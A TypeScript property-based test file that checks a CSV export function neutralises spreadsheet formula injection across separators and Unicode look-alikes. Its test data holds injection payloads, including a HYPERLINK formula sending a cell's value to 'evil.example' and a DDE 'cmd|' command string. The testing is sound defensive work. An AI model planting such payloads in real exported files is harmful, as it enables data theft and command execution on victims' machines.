import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvLines } from '../../src/rules/text/csv'

const parse = (text: string): string[][] => {
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' })
  expect(errors).toEqual([])
  // Whatever stands behind the last line break.
  expect(data.pop()).toEqual([''])
  return data
}

/** Without what a program may drop before it looks for a sign. Said in other words than the rule says it. */
const looksLikeFormula = (cell: string) =>
  ['\t', '\r'].includes(cell.charAt(0)) ||
  '=+-@'.includes(
    cell
      .normalize('NFKC')
      .replace(
        /[\s"'\u0000-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF\u00AD\u3164\u2800\uFE0F]/g,
        '',
      )
      .charAt(0) || 'x',
  )

const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '＝',
  '＋',
  '－',
  '＠',
  '﹦',
  '﹢',
  '﹣',
  '﹫',
  '⁺',
  '₌',
  '⩵',
  '\uFB29',
  '\t',
  '\r',
]
const LEADS = [
  '',
  ' ',
  '\u00A0',
  '\n',
  '\r\n',
  '"',
  "'",
  '""',
  '\uFEFF',
  '\u200B',
  '\u202E',
  '\u3164',
  '\uFF02',
  '\u2800',
  '\0',
  '\v',
]
const TAILS = [
  '1+1',
  'HYPERLINK("http://evil.example/"&B2,"open")',
  "cmd|'/C calc'!A0",
  'a\nb',
  'a\r\nb',
  'a\rb',
  '\u2028b',
  ',"',
  ';=1+1',
  'x\t\uFEFF@SUM(1)',
]

/** An apostrophe that makes text of a cell, behind what a program may drop. */
const LEADING_APOSTROPHE =
  /^[\s"\u0000-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF\u00AD\u3164\u2800\uFE0F]*'/

/** The cells for a program that separates by semicolons or tabs, and takes our quotation marks for text. */
const cellsElsewhere = (file: string) => file.split(/[;\t\r\n]/)

const withoutApostrophes = (text: string | undefined) => text?.replaceAll("'", '')

const cell = fc
  .array(
    fc.oneof(fc.constantFrom(...SIGNS, ...LEADS, ...TAILS, ',', '\n', '\r'), fc.string({ unit: 'binary' })),
    {
      maxLength: 6,
    },
  )
  .map((pieces) => pieces.join(''))

describe('csvLines', () => {
  it('turns every dangerous character into text, wherever it begins a cell', () => {
    const hostile = LEADS.flatMap((lead) => SIGNS.flatMap((sign) => TAILS.map((tail) => lead + sign + tail)))
    const read = parse(csvLines(hostile.map((text) => [text, 'next'])))
    expect(read.map(([text]) => text?.startsWith("'"))).not.toContain(false)
    expect(read.map(([text]) => withoutApostrophes(text))).toEqual(hostile.map(withoutApostrophes))
  })

  it.each([
    ['hi;=1+1;x', "hi;'=1+1;x"],
    ["hi; +cmd|'/C calc'!A0", "hi; '+cmd|'/C calc'!A0"],
    ['hi\t@SUM(1)', "hi\t'@SUM(1)"],
    ['hi\r\n"=1+1', 'hi\r\n"\'=1+1'],
    ['hi;\u200B＝1+1', "hi;\u200B'＝1+1"],
    ['\n-1', "'\n'-1"],
  ])('makes text of %j for a program with another separator, too', (text, safe) => {
    expect(parse(csvLines([['Ann', text]]))).toEqual([['Ann', safe]])
  })

  it('holds no formula in any cell, and all of the text otherwise', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
        (rows) => {
          const read = parse(csvLines(rows))
          expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length))
          read.flat().forEach((text, index) => {
            expect(looksLikeFormula(text.replace(/^'/, 'x'))).toBe(false)
            expect(withoutApostrophes(text)).toBe(withoutApostrophes(rows.flat()[index]))
          })
          for (const text of cellsElsewhere(csvLines(rows)))
            expect(looksLikeFormula(text.normalize('NFKC').replace(LEADING_APOSTROPHE, 'x'))).toBe(false)
        },
      ),
      { numRuns: 2_000 },
    )
  })

  it.each([
    '',
    'Ann',
    'a=b',
    'Ann\nb=1; c-d',
    "'tis",
    '"quoted"',
    ' 12',
    '(312) 555-0123',
    'Äpfel – Birnen',
    '👩‍🚀 ok',
  ])('leaves %j as it is', (text) => {
    expect(parse(csvLines([[text, '']]))).toEqual([[text, '']])
  })

  it('writes numbers as numbers, and keeps the plus of a phone number as text', () => {
    expect(csvLines([[-5, 1.5, 0, null, '+49 30 901820']])).toBe(`-5,1.5,0,,"'+49 30 901820"\r\n`)
  })

  it('reads a long text only once', () => {
    const began = performance.now()
    csvLines([[' '.repeat(1_000_000), `${'"'.repeat(500_000)}x`, ';\n'.repeat(500_000)]])
    expect(performance.now() - began).toBeLessThan(1_000)
  })
})
